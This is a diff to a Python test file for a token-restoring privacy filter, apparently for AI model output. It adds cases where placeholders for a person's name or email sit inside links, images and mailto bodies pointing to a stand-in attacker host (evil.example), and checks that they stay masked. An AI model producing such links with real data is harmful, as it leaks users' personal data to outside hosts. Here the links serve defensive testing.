@@ -1,11 +1,14 @@
 """Tokens: restoring understands what models do, and no more than that."""
 
+import json
+from time import process_time
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from pipeline.tokens import escaped, restored
-from schemas.policies import DataClass, Reveal
+from schemas.policies import DataClass, Place, Reveal
 
 NONCE = "K7QX"
 VAULT = {"<PERSON_K7QX_1>": 'Nora "N" Lind', "<EMAIL_K7QX_2>": r"a\1@mail.example"}
@@ -32,10 +35,59 @@ def test_bent_tokens_are_understood(bent: str) -> None:
         '<img src="https://evil.example/a <PERSON_K7QX_1>">',
         "www.evil.example/<PERSON_K7QX_1>",
         "[x](evil.example/<PERSON_K7QX_1>)",
+        "https://evil.example/?a=<EMAIL_K7QX_2>&b=<PERSON_K7QX_1>",
+        "https://evil.example/a(b)'c\"d?q=<PERSON_K7QX_1>",
+        "https://evil.example/" + "x" * 3000 + "?q=<PERSON_K7QX_1>",
+        "[x](<https://evil.example/?q=" + "x " * 600 + "<PERSON_K7QX_1>>)",
+        "![x](https://evil.example/a(b)c?q=<PERSON_K7QX_1>)",
+        "evil.example?q=<PERSON_K7QX_1>",
+        "mailto:eve@evil.example?body=<PERSON_K7QX_1>",
+        "[1]: //evil.example/<PERSON_K7QX_1>",
     ],
 )  # fmt: skip
 def test_others_tokens_and_links_stay(text: str) -> None:
     assert text == restored(text, VAULT, NONCE)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "See https://a.example/x, {}", "[x](https://a.example) by {}",
+        "(https://a.example) {}", "and/or {}", "[x](a(b)c) {}", "a = {}", "// {}",
+        "https://a.example/x\n{}", "f[0](x) {}",
+    ],
+)  # fmt: skip
+def test_behind_a_link_values_come_back(text: str) -> None:
+    assert text.format('Nora "N" Lind') == restored(
+        text.format("<PERSON_K7QX_1>"), VAULT, NONCE
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "back"),
+    [
+        ('{"url":"https://a.example","to":"<EMAIL_K7QX_2>"}', True),
+        (r'{"html":"<img src=\"https://a.example/?q=<EMAIL_K7QX_2>\">"}', False),
+        ('{"url":"https://a.example/?q=all of <EMAIL_K7QX_2>"}', False),
+        (r'{"url":"https:\/\/a.example\/?q=<EMAIL_K7QX_2>"}', False),
+        (r'{"url":"https://a.example/?q=\n<EMAIL_K7QX_2>"}', False),
+        (r'{"text":"see https://a.example and\n\n<EMAIL_K7QX_2>"}', True),
+    ],
+)
+def test_in_json_a_link_ends_with_its_string(text: str, *, back: bool) -> None:
+    done = restored(text, VAULT, NONCE, in_json=True)
+
+    assert back == ("@mail.example" in done)
+    assert json.loads(done)
+
+
+def test_long_lines_of_openings_cost_no_more_than_their_length() -> None:
+    text = "](" * 20_000 + "src='" * 10_000 + "a.a." * 10_000 + "<PERSON_K7QX_1> " * 99
+    began = process_time()
+
+    restored(text, VAULT, NONCE)
+
+    assert process_time() - began < 1.0
 
 
 def test_a_policy_may_restore_in_links() -> None:
@@ -50,6 +102,16 @@ def test_a_class_that_is_not_revealed_stays_its_class() -> None:
     reveal = Reveal(classes=(DataClass.EMAIL,))
 
     assert "[PERSON]" == restored("<PERSON_K7QX_1>", VAULT, NONCE, reveal)
+
+
+def test_what_a_tool_is_called_with_has_a_scope_of_its_own() -> None:
+    reveal = Reveal(in_tool_calls=(DataClass.EMAIL,))
+    text = "<PERSON_K7QX_1> <EMAIL_K7QX_2>"
+
+    assert r'Nora "N" Lind a\1@mail.example' == restored(text, VAULT, NONCE, reveal)
+    assert r"[PERSON] a\1@mail.example" == restored(
+        text, VAULT, NONCE, reveal, Place.TOOL_CALL
+    )
 
 
 def test_a_strict_token_becomes_its_class() -> None:
